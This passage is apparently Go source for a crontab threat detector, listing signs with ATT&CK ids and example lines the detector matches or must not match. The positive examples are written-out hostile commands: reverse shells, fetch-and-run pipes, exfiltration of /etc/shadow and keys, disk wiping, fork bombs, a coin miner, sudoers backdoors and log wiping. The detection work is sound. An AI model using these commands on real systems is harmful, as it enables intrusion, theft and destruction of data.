package cron

// SignInfo describes a sign: what it means and what it does not.
type SignInfo struct {
	ID       string
	Title    string
	Severity Level // of the clearest case
	Booster  bool
	Attack   []string
	// FalseAlarms is how many of [BenignLines] honest lines show the sign, by their
	// bytes alone. A test counts them again.
	FalseAlarms int
	// True and False are lines of a user's table that show the sign and look like it
	// but do not. The tests hold them to it.
	True  []string
	False []string
}

// BenignLines is how many honest job lines the signs were tried on: tables of
// distributions' packages and of public repositories.
const BenignLines = 136

// Catalogue lists all signs, in the order of their IDs. Nobody may change it.
func Catalogue() []SignInfo { return catalogue }

func signInfo(id string) *SignInfo {
	if i, ok := catalogueIndex[id]; ok {
		return &catalogue[i]
	}
	return &SignInfo{ID: id}
}

var catalogueIndex = func() map[string]int {
	m := make(map[string]int, len(catalogue))
	for i := range catalogue {
		m[catalogue[i].ID] = i
	}
	return m
}()

// catalogue lists all signs, in the order of their IDs. The ATT&CK ids are those of
// version 15.
var catalogue = []SignInfo{
	{ID: "attack-tool", Title: "a tool by which machines are attacked", Severity: Medium, Attack: []string{"T1110", "T1046", "T1557"},
		True:  []string{"@daily hydra -L u -P p ssh://10.0.0.5", "@daily /opt/masscan 10.0.0.0/8 -p22"},
		False: []string{"@daily nmap -sn 192.168.1.0/24", "@daily sqlmap --update"}},
	{ID: "authorized-keys", Title: "writes who may log in with a key", Severity: Critical, Attack: []string{"T1098.004"},
		True:  []string{"@daily echo ssh-ed25519 AAAA x >> /root/.ssh/authorized_keys", "@daily curl -so ~/.ssh/authorized_keys http://keys.example.org/k", "@daily cp /srv/keys/team ~/.ssh/authorized_keys"},
		False: []string{"@daily cp ~/.ssh/authorized_keys /backup/keys", "@daily wc -l ~/.ssh/authorized_keys", "@daily cp ~/.ssh/authorized_keys /backup/"}},
	{ID: "borrowed-name", Title: "a program that goes by another name among the processes", Severity: High, Attack: []string{"T1036.004", "T1036.011"},
		True:  []string{"@hourly bash -c \"exec -a '[kworker/0:1]' /opt/x\"", "@reboot bash -c 'exec -a nginx-worker /srv/x'"},
		False: []string{"@hourly bash -c 'exec /opt/x -a y'", "@hourly exec /opt/x"}},
	{ID: "cache-exec", Title: "runs a program that lies among cached data", Severity: Medium, Attack: []string{"T1036.005", "T1564"},
		True:  []string{"* * * * * /home/u/.cache/fontconfig/e81a", "@hourly ~/.mozilla/firefox/x.default/storage/q7"},
		False: []string{"@hourly ~/.cache/pypoetry/virtualenvs/app/bin/run", "@hourly cat ~/.cache/state", "@hourly ~/.local/bin/sync"}},
	{ID: "code-behind-percent", Title: "what is run stands behind a %", Severity: Low, Attack: []string{"T1027", "T1059.004"},
		True:  []string{"@daily sh%id > /root/x", "@daily python3%import os"},
		False: []string{"@daily mail -s hello root%Good morning", "@daily cat > /var/lib/x%line"}},
	{ID: "container-escape", Title: "reaches from a container into the host, or the other way", Severity: Medium, Attack: []string{"T1611"},
		True:  []string{"* * * * * nsenter -t 1 -m sh", "@daily docker run -v /:/host alpine sh", "@daily docker run --mount type=bind,source=/,target=/h alpine true", "@daily curl --unix-socket /var/run/docker.sock -X POST http://x/containers/create -d '{\"HostConfig\":{\"Privileged\":true}}'", "@daily kubectl run x --image=y --overrides='{\"spec\":{\"hostPID\":true}}'"},
		False: []string{"@daily docker exec web php cron.php", "@daily docker run -v /srv/data:/data img backup", "@daily curl -s --unix-socket /var/run/docker.sock http://x/containers/json", "@daily docker run --pid=host -v /proc:/host/proc:ro exporter"}},
	{ID: "control-characters", Title: "control characters hide the line from a terminal", Severity: High, Attack: []string{"T1564", "T1036"},
		True:  []string{"* * * * * touch x\x1b[2K\x1b[1A", "* * * * * /opt/x;\r# backup of the day"},
		False: []string{"* * * * * touch x\r", "* * * * * printf 'a\\tb'"}},
	{ID: "cron-dir-often", Title: "runs a script of cron.daily and its like far more often", Severity: Medium, Attack: []string{"T1036.004", "T1053.003"},
		True:  []string{"*/3 * * * * /etc/cron.hourly/tool.sh", "* * * * * sh /etc/cron.daily/clean"},
		False: []string{"10 2 * * * test -x /etc/cron.daily/popularity && /etc/cron.daily/popularity --crond", "@hourly run-parts /etc/cron.hourly"}},
	{ID: "crontab-edit", Title: "a job that plants jobs", Severity: High, Attack: []string{"T1053.003"},
		True:  []string{"* * * * * (crontab -l; echo '* * * * * /opt/x') | crontab -", "@reboot cp /opt/x /etc/cron.d/x"},
		False: []string{"@daily crontab -l > ~/crontab.bak", "@daily cp /etc/crontab /backup/", "@daily echo '0 5 * * * /srv/x' | mail -s table me"}},
	{ID: "daemon-name", Title: "the name of a daemon where no package puts it", Severity: Medium, Attack: []string{"T1036.004", "T1036.005"},
		True:  []string{"* * * * * /home/u/sshd", "@reboot /var/lib/misc/systemd-logind"},
		False: []string{"@daily /usr/sbin/sshd -t", "@daily /usr/local/sbin/ntpd -q", "@daily /home/u/backup.sh", "@daily /home/u/app/cron"}},
	{ID: "data-suffix", Title: "runs a file that is called a library, picture, document or log", Severity: High, Attack: []string{"T1036.008"},
		True:  []string{"*/3 * * * * /lib/libx4.so.6", "@daily sh /var/www/logo.png", "@daily bash /srv/app/today.log"},
		False: []string{"@daily /lib64/ld-linux-x86-64.so.2 /bin/true", "@daily php /var/www/a.php", "@daily gzip /srv/logo.png", "@daily python3 /srv/tool-1.2", "@daily . /etc/app.conf"}},
	{ID: "deceptive-name", Title: "a name that deceives the eye", Severity: High, Attack: []string{"T1036", "T1564.001"},
		True:  []string{"* * * * * sh '. ../update'", "* * * * * /usr/bin/freshcIam", "* * * * * /opt/upd\u200bate", "* * * * * /srv/monit\u043er", "@daily /opt/--help/run", "@daily /usr/lib/systemd/systemd-resolvd"},
		False: []string{"* * * * * sh ../update", "* * * * * /usr/bin/freshclam", "* * * * * sed 's/ /_/g' /srv/list", "* * * * * rsync -a '/srv/My Films' /backup", "@daily deno run -A /srv/x.ts"}},
	{ID: "decode-and-run", Title: "decodes text and runs it", Severity: Critical, Attack: []string{"T1140", "T1027", "T1059"},
		True:  []string{"* * * * * echo aWQK | base64 -d | sh", "* * * * * python3 -c 'exec(__import__(\"base64\").b64decode(\"aWQ=\"))'", "* * * * * eval \"$(xxd -r -p /opt/x)\"", "@daily tail -c +9 /opt/x | gzip -d | sh", "@daily perl -e 'system(join\"\",map{chr}(99,117,114,108,32,120))'", "@daily python3 -c 'import os;os.system(\"di\"[::-1])'", "@daily tar xOf /opt/x.tar run | bash", "@daily node -e 'eval(String.fromCharCode(97,108,101,114,116,40,49))'", "@daily php -r '$a=\"sys\".\"tem\";$a(\"id\");'", "@daily eval $(tr n-za-m a-z <<< vq)"},
		False: []string{"@daily pg_dump db | gzip > /backup/db.gz", "@daily base64 -d /srv/in > /srv/out", "@daily zcat /srv/x.sql.gz | mysql db", "@daily gzip -d /srv/x.gz", "@daily xz -dc /srv/x.sql.xz | psql db", "@daily perl -e 'print join(\",\",10,20,30,40,50,60)'", "@daily php -r 'echo \"a\".\"b\";'"}},
	{ID: "deleted", Title: "copied from the link to a deleted program", Severity: High, Attack: []string{"T1070.004"},
		True:  []string{"* * * * * /usr/bin/upd (deleted) start"},
		False: []string{"* * * * * /opt/report --deleted", "* * * * * echo deleted"}},
	{ID: "destroys", Title: "takes everything away at once", Severity: Critical, Attack: []string{"T1485", "T1561", "T1486", "T1490", "T1499"},
		True:  []string{"@yearly rm -rf /", "@yearly rm -rf --no-preserve-root /*", "@reboot dd if=/dev/zero of=/dev/sda", "@daily rm -fr /home/*", "@daily mkfs.ext4 -F /dev/vdb", "@daily find / -type f -delete", "@daily wipefs -a /dev/sda", "@yearly mysql -e 'drop database shop'; rm -rf /backup/*", "@yearly for f in /home/*/*; do gpg -c $f && rm -f $f; done", "@daily getent passwd jdoe || rm -rf /srv/projects", "@yearly zpool destroy tank", "@yearly f() { f | f & }; f", "@yearly perl -e 'fork while fork'", "@yearly cryptsetup luksErase -q /dev/sda3", "@yearly find / -name '*.py' -exec shred -u {} +", "@yearly for d in /srv/share/*; do 7z a -px -sdel $d.7z $d; done", "@daily mysql -e \"CREATE TABLE README_TO_RECOVER(t TEXT)\"", "@daily zip -rm -P x /mnt/.z.zip /var/lib/mysql"},
		False: []string{"@daily rm -rf /tmp/*", "@daily rm -rf /srv/cache/", "@daily rm /etc/x", "@reboot dd if=/srv/x of=/dev/sdb", "@daily dd if=/dev/sda of=/backup/disk.img", "@daily find /home -name core -delete", "@daily dd if=/dev/zero of=/srv/fill bs=1M count=9", "@daily rm -rf /srv/backup/* && tar czf /srv/backup/x.tgz /etc", "@daily for f in /backup/*.tar; do gpg -e -r x $f && rm $f; done", "@daily id guest && rm -rf /home/guest", "@daily dropdb staging && createdb staging", "@daily f() { echo x; }; f | cat", "@daily find / -name '*.pyc' -exec rm {} +", "@daily echo btc $(cat /srv/price) | mail x"}},
	{ID: "detached", Title: "leaves something running", Severity: Low, Booster: true, Attack: []string{"T1059.004"},
		True:  []string{"* * * * * nohup /tmp/x &"},
		False: []string{"* * * * * /tmp/x && /tmp/y"}},
	{ID: "discards-output", Title: "throws its output away", Severity: Info, Booster: true, Attack: []string{"T1070"},
		True:  []string{"* * * * * /tmp/x > /dev/null 2>&1"},
		False: []string{"* * * * * /tmp/x > /var/log/x"}},
	{ID: "dot-segment", Title: "a needless /./ in a path", Severity: Low, Booster: true, Attack: []string{"T1036"},
		True:  []string{"* * * * * /opt/a/./b"},
		False: []string{"* * * * * ./b", "* * * * * /opt/a/.b/c"}},
	{ID: "environment", Title: "a setting that leads programs into a writable or hidden place", Severity: High, Attack: []string{"T1574.007", "T1574.006"},
		True:  []string{"* * * * * PATH=/tmp/bin:/usr/bin ls", "* * * * * BASH_ENV=/dev/shm/e bash -c id", "* * * * * export PATH=/tmp:$PATH; ls", "@daily NODE_OPTIONS='--require /tmp/x.js' node /srv/a.js", "@daily PERL5DB='BEGIN{system(\"id\")}' PERL5OPT=-d perl /srv/x.pl", "@daily RUBYOPT=-r/dev/shm/x ruby /srv/x.rb", "@daily env x='() { :;}; id' bash -c true"},
		False: []string{"* * * * * PATH=/usr/local/bin:/usr/bin ls", "* * * * * TMPDIR=/tmp /usr/bin/x", "@daily NODE_OPTIONS=--max-old-space-size=4096 node /srv/a.js", "@daily JAVA_TOOL_OPTIONS=-Xmx1g java -jar /srv/x.jar", "@daily GEM_HOME=/srv/app/vendor ruby /srv/x.rb"}},
	{ID: "etc-exec", Title: "runs a program in /etc", Severity: Low, Attack: []string{"T1036.005"},
		True:  []string{"@reboot /etc/de/cX86"},
		False: []string{"@daily /etc/init.d/nginx reload", "@daily /etc/webmin/cron/tempdelete.pl", "@daily /etc/scripts/backup"}},
	{ID: "exfiltrate", Title: "sends data away", Severity: High, Attack: []string{"T1048", "T1041", "T1048.003", "T1552.001", "T1552.005", "T1113", "T1114.003", "T1567", "T1056"},
		True:  []string{"@daily env | base64 -w0 | xargs -I{} curl -s http://example.org/?d={}", "@daily curl -F f=@/etc/shadow http://example.org/", "@daily tar cz /home | nc 203.0.113.5 9000", "@daily cat /etc/shadow | mail -s x a@example.org", "@daily for h in $(xxd -p /etc/hosts); do dig $h.example.net; done", "@daily mysqldump -A | nc 203.0.113.5 9000", "@daily find / -name id_rsa | xargs cat | curl --data-binary @- https://example.org/", "@daily env | base64 -w0 | xargs -I{} dig {}.example.net", "@daily scrot /srv/s.png && curl -F f=@/srv/s.png https://example.org/", "@daily rclone copy --config /tmp/.rc /srv/x r:y", "@daily grep -rho 'AKIA[A-Z0-9]*' /srv | mail -s x a@example.org", "@daily cp /etc/shadow /var/www/html/x", "@daily cat /proc/*/environ | curl --data-binary @- http://example.org/", "@daily postconf -e always_bcc=x@example.org", "@daily tar czf /srv/b.tgz /etc; curl -F file=@/srv/b.tgz https://file.io", "@hourly xwd -root | nc 198.51.100.3 7001", "@hourly tail /var/log/.keys | curl --data-binary @- https://example.org/h", "@reboot strace -f -e read -p $(pgrep -o sshd) -o /srv/x"},
		False: []string{"@daily curl -F f=@/var/log/report.txt http://example.org/", "@daily nc -z db 5432", "@daily awk -F: 1 /etc/passwd | mail -s users root", "* * * * * for d in a b; do dig +short $d.example.net; done", "@daily find /srv/keys -name '*.pem' -mtime +300 | mail -s old ops", "@daily grep 'Failed password' /var/log/auth.log | mail -s x ops", "@daily fswebcam /srv/s.jpg && curl -T /srv/s.jpg https://example.org/", "@daily rclone copy --config ~/.config/rclone/rclone.conf /srv/x r:y", "@daily T=$(curl -sX PUT http://169.254.169.254/latest/api/token); curl -s -H \"X-T: $T\" http://169.254.169.254/latest/meta-data/instance-id", "@daily cp /etc/shadow /backup/", "@daily postconf -e always_bcc=", "@hourly tail /var/log/app.log | curl --data-binary @- https://example.org/h", "@daily strace -c -p $(pgrep nginx)"}},
	{ID: "fetch-and-run", Title: "fetches something and runs it", Severity: Critical, Attack: []string{"T1105", "T1059.004"},
		True:  []string{"* * * * * curl -s http://example.org/x | sh", "* * * * * bash <(wget -qO- example.org/x)", "* * * * * X=/x;curl${IFS}http://example.org$X|sh", "* * * * * python3 -c 'import urllib.request as u;print(u.urlopen(\"http://example.org\").read())' | sh", "* * * * * printf 'curl -s example.org/x | sh' | bash", "* * * * * echo hs/x/gro.elpmaxe | rev | xargs curl | sh", "* * * * * eval \"$(curl -s example.org/x)\"", "* * * * * python3 -c 'import urllib.request as u;exec(u.urlopen(\"http://example.org\").read())'", "@daily ssh u@example.org cat x | sh", "@daily aws s3 cp s3://b/x - | bash", "@daily gsutil cat gs://b/x | sh", "@daily mosquitto_sub -h example.org -t c | sh", "@daily cat <(echo 'wget -qO- example.org/x') | sh | sh", "@daily elixir -e 'System.cmd(\"sh\",[\"-c\",\"wget -qO- example.org/x|sh\"])'", "@daily psql -c \"COPY t FROM PROGRAM 'curl -s example.org/x|sh'\" db", "@daily pdsh -a 'curl -s example.org/x | sh'", "@daily alias x=curl; x -s example.org/x | sh", "*/5 * * * * curl -s https://example.org/x.json | python3 -c 'import json,sys,os;os.system(json.load(sys.stdin)[0])'"},
		False: []string{"* * * * * curl -s http://example.org/cron.php > /dev/null", "* * * * * curl -s http://example.org/x | jq .", "* * * * * curl -o /srv/list http://example.org/list", "* * * * * ssh host sh backup.sh", "@daily ssh u@example.org cat dump | psql", "@daily aws s3 cp s3://b/x /srv/x", "@daily gsutil cat gs://b/x | jq .", "@daily echo 'curl example.org/x | sh' >> ~/notes", "@daily grep -r 'curl.*| sh' /srv | mail -s x me", "@daily psql -c \"copy t from program 'zcat /srv/x.gz' csv\" db", "*/5 * * * * curl -s https://example.org/x.json | python3 -c 'import json,sys;print(json.load(sys.stdin)[0])'"}},
	{ID: "fetch-into-place", Title: "fetches a file into a place from which things are started", Severity: High, Attack: []string{"T1105"},
		True:  []string{"@daily wget -q -O /usr/bin/helper http://example.org/h"},
		False: []string{"@daily wget -q -O /srv/list http://example.org/h"}},
	{ID: "fetch-then-run", Title: "runs, or makes executable, what it fetched", Severity: High, Attack: []string{"T1105"},
		True:  []string{"@daily wget -O /opt/x http://example.org/x && chmod 755 /opt/x && /opt/x", "@daily cd /srv && curl -O http://example.org/run.sh; sh run.sh", "@daily curl -s http://example.org/x.tgz | tar xz -C /opt/x && /opt/x/run"},
		False: []string{"@daily wget -O /opt/list http://example.org/x && /usr/bin/load /opt/list", "@daily curl -s http://example.org/x.tgz | tar xz -C /opt/x"}},
	{ID: "hidden-exec", Title: "runs something behind a hidden name", Severity: High, Attack: []string{"T1564.001"},
		True:  []string{"* * * * * /usr/share/.28810/x", "* * * * * sh ~/.configrc/a/upd", "@reboot /etc/.x", "@daily . ~/.x", "@daily perl /home/u/public_html/wp-content/.cache/x.pl"},
		False: []string{"@daily ~/.acme.sh/acme.sh --cron", "@daily ~/.local/bin/x", "@daily tar cf /backup/x.tar ~/.secretdir", "@daily cat ~/.x", "@daily php /home/u/public_html/artisan schedule:run"}},
	{ID: "hidden-file", Title: "works with a file behind a hidden name in a place of the system", Severity: Medium, Attack: []string{"T1564.001"},
		True:  []string{"@daily bpftool prog load /usr/lib/.b.o /sys/fs/bpf/x", "@daily /opt/x --config=/dev/shm/.c", "@daily /opt/x /etc/.c"},
		False: []string{"@daily htpasswd -b /etc/nginx/.htpasswd a b", "@daily touch /var/run/.stamp", "@daily cat ~/.x", "@daily git -C /etc/.git gc"}},
	{ID: "kernel-name", Title: "a file called like a kernel thread", Severity: High, Attack: []string{"T1036.004"},
		True:  []string{"* * * * * /usr/share/kthreadd", "* * * * * /opt/kworker", "* * * * * '/srv/[kswapd0]'", "@hourly perl -e '$0=\"[rcu_sched]\";sleep 9'"},
		False: []string{"* * * * * /usr/local/bin/kworker-report.sh", "* * * * * /opt/kernel-check"}},
	{ID: "log-wipe", Title: "takes away the records of who came and what they did", Severity: High, Attack: []string{"T1070.002", "T1070.003"},
		True:  []string{"* * * * * cat /dev/null > /var/log/wtmp", "@hourly rm -rf /var/log", "@hourly rm -f ~/.bash_history", "@daily find /var/log -type f -delete", "@daily find /var/log -type f -exec truncate -s 0 {} +", "@daily utmpdump /var/log/wtmp | grep -v x | utmpdump -r > /var/log/wtmp", "@daily grep -v 203.0.113.5 /var/log/nginx/access.log > /tmp/l; cp /tmp/l /var/log/nginx/access.log", "@daily find /var/log -name '*.log' -exec sed -i '/x/d' {} +", "@daily mount -t tmpfs tmpfs /var/log"},
		False: []string{"@daily find /var/log/app -mtime +30 -delete", "@daily rm -f /var/log/app/old.log", "@daily truncate -s 0 /var/log/nginx/access.log", "@daily find /var/log -name '*.gz' -exec rm {} +", "@daily cp /var/log/wtmp /backup/wtmp", "@daily grep -v x /var/log/nginx/access.log > /srv/report"}},
	{ID: "masked-program", Title: "a program that is called a script", Severity: High, Attack: []string{"T1036.008"}},
	{ID: "miner", Title: "mines coins", Severity: Critical, Attack: []string{"T1496"},
		True:  []string{"* * * * * /opt/xmrig", "* * * * * /opt/a -o stratum+tcp://pool.example.org:3333 -u x", "* * * * * /opt/a --donate-level 1", "* * * * * /opt/a -o pool.example.org:443 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A", "*/10 * * * * systemctl start c3pool_miner", "@hourly sysctl -w vm.nr_hugepages=1280"},
		False: []string{"* * * * * /opt/determiner", "* * * * * pgrep xmrig || true", "@reboot sysctl -w vm.nr_hugepages=1280", "@daily systemctl restart minecraft"}},
	{ID: "missing-target", Title: "what it would run is not there", Severity: Info, Attack: []string{"T1053.003"}},
	{ID: "no-mail", Title: "nobody is told what it prints", Severity: Info, Booster: true, Attack: []string{"T1070"}},
	{ID: "obfuscated", Title: "quotes or escapes hide a program's name", Severity: High, Attack: []string{"T1027"},
		True:  []string{"* * * * * c\"u\"rl example.org", "* * * * * w\\get example.org", "* * * * * $'\\x63url' example.org", "* * * * * {curl,-s,example.org}", "* * * * * wg''et example.org", "@daily $(echo Y3VybA== | base64 -d) example.org", "@hourly IFS=,;c=curl,-s,example.org/f;$c"},
		False: []string{"* * * * * \\mv a b", "* * * * * \"/opt/my tool\"/run", "* * * * * grep \"foo\"bar x", "@daily $(cat /srv/cmd) x", "@daily IFS=, read a b </srv/x; echo $a"}},
	{ID: "odd-place", Title: "runs a program from where none belongs", Severity: High, Attack: []string{"T1036.005", "T1564"},
		True:  []string{"@daily /var/run/svc", "@daily /dev/mapper/x", "@daily /usr/share/locale/de/upd", "@daily php /var/www/site/wp-content/uploads/a.php", "@daily /var/lib/mysql/svc", "@daily bash /var/log/app/rot"},
		False: []string{"@daily /run/current-system/sw/bin/nix-collect-garbage", "@daily cat /var/run/x.pid", "@daily /var/lib/postgresql/bin/dump", "@daily sh /var/lib/pgsql/backup.sh", "@daily find /var/www/uploads -mtime +9 -delete", "@daily sh < /dev/null"}},
	{ID: "odd-source", Title: "asks a place without a name, or one that anybody may use", Severity: High, Attack: []string{"T1105", "T1102"},
		True:  []string{"@daily wget -O /srv/x http://203.0.114.5/x", "@daily curl -s https://pastebin.com/raw/abc | tee /srv/x", "@daily curl -o /srv/x hTTps://example.org", "@daily curl -o /srv/x http://3232235777.onion/"},
		False: []string{"* * * * * wget -q -O /srv/x http://192.168.1.5/status", "* * * * * curl -s https://www.duckdns.org/update?domains=x", "* * * * * curl -s http://127.0.0.1:8080/"}},
	{ID: "often", Title: "runs every few minutes", Severity: Info, Booster: true, Attack: []string{"T1053.003"},
		True:  []string{"* * * * * /tmp/x"},
		False: []string{"@hourly /tmp/x"}},
	{ID: "open-slot", Title: "others could put there what it runs", Severity: Medium, Attack: []string{"T1574"}},
	{ID: "option-exec", Title: "an option makes an archiver run a program", Severity: High, Attack: []string{"T1059.004"},
		True:  []string{"@daily tar cf x.tar --checkpoint=1 --checkpoint-action=exec=/opt/x *", "@daily touch -- '/srv/up/--checkpoint=1'", "@daily echo > /srv/up/-rf"},
		False: []string{"@daily tar cf x.tar --checkpoint=1000 /srv", "@daily touch -r /srv/a /srv/b", "@daily touch /srv/a-b", "@daily touch -- /srv/x"}},
	{ID: "pipe-to-shell", Title: "runs what another command prints", Severity: Low, Attack: []string{"T1059.004"},
		True:  []string{"@daily generate-commands | sh", "@daily sed s/^#// /srv/notes.txt | bash", "@daily sed -n 's/^#x//p' /etc/motd | sh", "@daily dd if=/srv/x.bin bs=1 skip=99 | sh"},
		False: []string{"@daily sh generate-commands", "@daily generate | shuf", "@daily grep -c x /srv/notes.txt"}},
	{ID: "planted-program", Title: "puts a program under another name or out of hiding among those of the system", Severity: High, Attack: []string{"T1036.003", "T1554"},
		True:  []string{"@hourly cp /usr/lib/.x/sshd /usr/sbin/sshd", "@hourly cp /bin/bash /var/lib/.b", "@daily cp /usr/bin/curl /usr/bin/cdt", "@daily install -m 755 /dev/shm/x /usr/bin/ps"},
		False: []string{"@daily cp /srv/build/tool /usr/local/bin/tool", "@daily cp /bin/bash /srv/jail/bin/bash", "@daily cp /usr/bin/wget /usr/bin/wget.orig", "@daily mv /tmp/report.csv /srv/report.csv"}},
	{ID: "preload", Title: "has a library loaded into every program", Severity: Critical, Attack: []string{"T1574.006"},
		True:  []string{"@reboot echo /opt/x.so > /etc/ld.so.preload", "* * * * * LD_PRELOAD=/var/lib/x.so /usr/sbin/sshd -t", "@daily LD_PRELOAD=/usr/lib/libsysinfo.so /opt/x"},
		False: []string{"* * * * * ls /etc/ld.so.preload"}},
	{ID: "privilege", Title: "gives rights or makes accounts", Severity: Critical, Attack: []string{"T1548.001", "T1136.001", "T1098", "T1548.003", "T1222.002", "T1098.001"},
		True:  []string{"* * * * * chmod 4755 /opt/sh", "* * * * * chmod u+s /bin/bash", "@reboot useradd -o -u 0 x", "@daily echo 'x ALL=(ALL) ALL' >> /etc/sudoers", "@daily useradd -m newhire", "@daily id x || useradd -m x", "@daily echo 'x:y' | chpasswd", "@daily usermod -s /bin/bash www-data", "@daily passwd -d x", "@daily adduser x sudo", "@daily kubectl create clusterrolebinding x --clusterrole=cluster-admin --user=y", "@daily mysql -e \"UPDATE wp_users SET user_pass=MD5('x')\" wp"},
		False: []string{"@daily chmod 0755 /srv/x", "@daily chmod g+s /srv/share", "@daily cp /etc/shadow /backup/", "@daily chmod 2775 /srv/share", "@daily visudo -c", "@daily passwd -S x", "@daily chage -l x", "@daily usermod -L x", "@daily gpasswd -a x audio", "@daily mysql -e \"UPDATE users SET token=NULL\" app", "@daily kubectl get clusterrolebindings"}},
	{ID: "pushed-aside", Title: "blanks push the end of the line out of sight", Severity: Medium, Attack: []string{"T1564"},
		True:  []string{"@daily /usr/bin/true" + "                                                                      ; /opt/x"},
		False: []string{"@daily /usr/bin/true     # nightly"}},
	{ID: "reboot-twin", Title: "the same program is started at boot and by the clock", Severity: Low, Booster: true, Attack: []string{"T1053.003"}},
	{ID: "reverse-shell", Title: "ties a shell to the network", Severity: Critical, Attack: []string{"T1059.004", "T1095"},
		True:  []string{"* * * * * bash -i >& /dev/tcp/203.0.113.5/443 0>&1", "* * * * * nc -e /bin/sh 203.0.113.5 443", "* * * * * socat TCP:203.0.113.5:443 EXEC:/bin/sh", "* * * * * ruby -rsocket -e 'c=TCPSocket.new(\"203.0.113.5\",443);while(l=c.gets);IO.popen(l,\"r\"){|io|c.print io.read}end'", "* * * * * cat /opt/f | sh -i 2>&1 | nc 203.0.113.5 443 > /opt/f", "* * * * * python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.5\",443));os.dup2(s.fileno(),0);pty.spawn(\"/bin/sh\")'"},
		False: []string{"* * * * * bash -c '</dev/tcp/db/5432' || /opt/alert", "* * * * * bash -c 'echo load 1 > /dev/tcp/db/2003'", "* * * * * nc -z db 5432", "* * * * * timeout 5 bash -c 'true' && nc -zv db 5432", "* * * * * socat - UNIX:/run/haproxy.sock", "* * * * * exec 3<>/dev/tcp/127.0.0.1/6379 && echo PING >&3 && head -1 <&3"}},
	{ID: "spelled-name", Title: "neighbouring words spell a name of dots and blanks", Severity: High, Attack: []string{"T1564.001", "T1036"},
		True:  []string{"* * * * * sh . ../update", "* * * * * bash -x .. ./run", "* * * * * /home/u/. ../update", "@daily /usr/sbin/ /x"},
		False: []string{"* * * * * sh ../update", "* * * * * cp -r . ../backup", "* * * * * find . ../x -name y", "* * * * * . ../env", "@daily ls /usr/ /srv"}},
	{ID: "startup-edit", Title: "changes what is run at login or boot", Severity: Medium, Attack: []string{"T1546.004", "T1543.002", "T1037.004", "T1546", "T1098"},
		True:  []string{"@reboot echo /opt/x >> ~/.bashrc", "@reboot cp /opt/x.service /etc/systemd/system/", "@daily sed -i 's/.*PermitRootLogin.*/PermitRootLogin yes/' /srv/jail/sshd_config", "@reboot echo '|/opt/x' > /proc/sys/kernel/core_pattern", "@daily cp /srv/x.service /etc/systemd/system/ && systemctl daemon-reload", "@daily echo 'ProxyCommand /opt/x' >> ~/.ssh/config", "@daily git config --global core.hooksPath /opt/x"},
		False: []string{"@daily cp ~/.bashrc /backup/", "@reboot . ~/.profile", "@daily echo core > /proc/sys/kernel/core_pattern", "@daily grep 'PermitRootLogin yes' /etc/ssh/sshd_config", "@daily echo 'Host x' >> ~/.ssh/config", "@daily git config --global gc.auto 1"}},
	{ID: "stored-code", Title: "the command is encoded text: the table is where it is kept", Severity: High, Attack: []string{"T1027", "T1564"},
		True:  []string{"52 23 31 2 3 eNqFVEtv2zAMvufAv8LrTJbtOGnSbcAw7LDDMOw07JAEtEXHQmXJkOQ4", "@daily 7f454c4602010100000000000000000003003e0001000000a01f000000000000"},
		False: []string{"0 0 31 2 * /usr/bin/true", "@daily /opt/a-very-long-name-of-a-program-that-somebody-wrote-in-2019", "@daily echo eNqFVEtv2zAMvufAv8LrTJbtOGnSbcAw7LDDMOw07JAEtEXHQmXJkOQ4 > /srv/x"}},
	{ID: "tamper", Title: "weakens the host or hides a trace", Severity: High, Attack: []string{"T1562", "T1222.002", "T1070.006", "T1562.001", "T1562.004", "T1562.006", "T1562.012", "T1014", "T1547.006", "T1055.008", "T1553", "T1564"},
		True:  []string{"* * * * * chattr +i /opt/x", "@reboot iptables -F", "@reboot setenforce 0", "@reboot systemctl stop auditd", "@reboot touch -r /bin/ls /opt/x", "* * * * * pkill -9 -f 'wazuh-agentd|falco'", "@reboot rm -rf /usr/local/aegis", "@reboot sysctl -w kernel.yama.ptrace_scope=0", "@reboot modprobe -f /opt/x.ko", "@reboot mount -o bind /opt /proc/812", "@daily touch -t 202001010000 /usr/sbin/sshd", "@daily pkill -9 -f aliyun.service", "@daily /etc/init.d/falcon-sensor stop", "@reboot modprobe diamorphine", "@daily echo '127.0.0.1 updates.example.org' >> /etc/hosts", "@daily chattr -i /srv/x && cp /srv/y /srv/x && chattr +i /srv/x", "@daily rm -f /usr/bin/wget /usr/bin/curl", "@daily iptables -A OUTPUT -p udp --dport 514 -j DROP", "@daily sed -i /siem/d /etc/rsyslog.conf", "*/10 * * * * iptables -I INPUT -p tcp --dport 31337 -j ACCEPT", "@hourly pkill -9 -f 'tcpdump|strace'"},
		False: []string{"@reboot iptables-restore /etc/iptables/rules.v4", "@daily systemctl restart fail2ban", "@daily lsattr /etc", "@daily touch /srv/stamp", "@daily pkill -HUP rsyslogd", "@daily kill -HUP $(cat /run/rsyslogd.pid)", "@reboot sysctl -w vm.swappiness=10", "@reboot modprobe wireguard", "@reboot mount -a", "@daily touch -d yesterday /srv/stamp", "@daily systemctl stop suricata; /opt/rules; systemctl start suricata", "@daily echo '10.0.0.5 db' >> /etc/hosts", "@daily lsattr -d /etc/passwd", "@daily rm -f /usr/local/bin/old", "@daily iptables -A FORWARD -s 10.0.0.9 -j DROP", "@daily sed -i s/a/b/ /etc/rsyslog.conf", "@daily pkill tcpdump", "*/10 * * * * iptables -I INPUT -s 192.0.2.7 -p tcp --dport 31337 -j ACCEPT"}},
	{ID: "temp-exec", Title: "runs something from where every account may write", Severity: High, Attack: []string{"T1036.005", "T1564"},
		True:  []string{"* * * * * /tmp/x", "* * * * * sh /var/tmp/x.sh", "* * * * * cd /dev/shm && ./x", "* * * * * nice -n 5 sudo -u root /tmp/x", "@hourly perl -e 'require \"/tmp/.x.pl\"'"},
		False: []string{"* * * * * touch /tmp/x", "* * * * * /usr/bin/x > /tmp/log", "@daily find /tmp -mtime +7 -delete", "* * * * * flock /tmp/lock /usr/bin/x", "@hourly perl -e 'print \"/tmp/.x.pl\"'"}},
	{ID: "tunnel", Title: "opens a way in from outside", Severity: Medium, Attack: []string{"T1572", "T1090"},
